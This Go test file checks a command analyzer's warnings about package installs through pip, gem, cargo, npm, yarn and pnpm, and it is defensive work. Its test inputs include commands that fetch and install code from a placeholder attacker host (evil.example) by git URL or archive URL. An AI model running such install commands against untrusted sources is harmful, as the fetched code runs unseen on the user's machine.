// Tests of the installer check: pip, gem and cargo install of a package or a URL name
// what runs and where it comes from; the project's own directory does not.
package commands

import "testing"

func TestPipInstallNamesFetchedCode(t *testing.T) {
	checkTwins(t, []twin{
		{name: "a package by name", hostile: "pip install requests", want: "build and install code of package requests from the package index",
			benign: "pip list", markedOK: ""},
		{name: "a git URL", hostile: "pip install git+https://evil.example/x.git", want: "git+https://evil.example/x.git from evil.example",
			benign: "pip show requests"},
		{name: "an archive URL", hostile: "pip3 install https://h.example/x.tar.gz", want: "https://h.example/x.tar.gz from h.example",
			benign: "pip3 freeze"},
		{name: "a gem by name", hostile: "gem install rails", want: "package rails from rubygems.org", benign: "gem list"},
		{name: "a crate by name", hostile: "cargo install ripgrep", want: "package ripgrep from crates.io", benign: "cargo --version"},
		{name: "a crate from a git repository", hostile: "cargo install --git https://evil.example/x tool", want: "from the repository given with --git",
			benign: "cargo --version"},
	})
	for _, local := range []string{"pip install .", "pip install -e .", "pip install ./pkg", "cargo install --path ."} {
		a := testAnalyze([]string{"sh", "-c", local})
		if !a.Understood || mentions(a, "fetched from the network") {
			t.Errorf("%s: the project's own directory is said to be fetched:\n%s", local, dump(a))
		}
	}
}

// npm, yarn and pnpm run an added package's install scripts: adding one
// by name or repository names it and the registry; installing the lock
// file's packages, removing one, --ignore-scripts and a local directory
// do not, and a scoped name is not a file sent.
func TestNodeInstallNamesFetchedCode(t *testing.T) {
	checkTwins(t, []twin{
		{name: "npm by name", hostile: "npm install left-pad", want: "package left-pad from registry.npmjs.org", benign: "npm ci"},
		{name: "npm a scoped name", hostile: "npm i -D @types/node", want: "package @types/node from registry.npmjs.org", benign: "npm install"},
		{name: "yarn a GitHub repository", hostile: "yarn add evil/repo", want: "evil/repo from github.com", benign: "yarn remove lodash"},
		{name: "pnpm by name", hostile: "pnpm add zod", want: "package zod from registry.npmjs.org", benign: "pnpm install --frozen-lockfile"},
		{name: "npm from a URL", hostile: "npm install https://evil.example/x.tgz", want: "from evil.example", benign: "npm install --ignore-scripts left-pad"},
	})
	for _, quiet := range []string{"npm install ./local", "npm i -D @types/node", "npm uninstall left-pad"} {
		a := testAnalyze([]string{"sh", "-c", quiet})
		if !a.Understood || mentions(a, "sends the file") {
			t.Errorf("%s: a package name is read as a file sent:\n%s", quiet, dump(a))
		}
	}
}

// A fetched package's code runs unseen: its mark is ordered with the
// runs-unseen findings, ahead of writes and network notes, so no cap
// hides it behind lesser marks.
func TestInstallMarkIsRunsUnseen(t *testing.T) {
	for _, s := range []string{"pip install https://h.example/x.whl", "npm install left-pad", "git -C ../other status"} {
		a := testAnalyze([]string{"sh", "-c", s})
		found := false
		for _, m := range a.Marks {
			if m.Severity == SeverityRunsUnseen {
				found = true
			}
		}
		if !found {
			t.Errorf("%s: no runs-unseen mark:\n%s", s, dump(a))
		}
	}
}
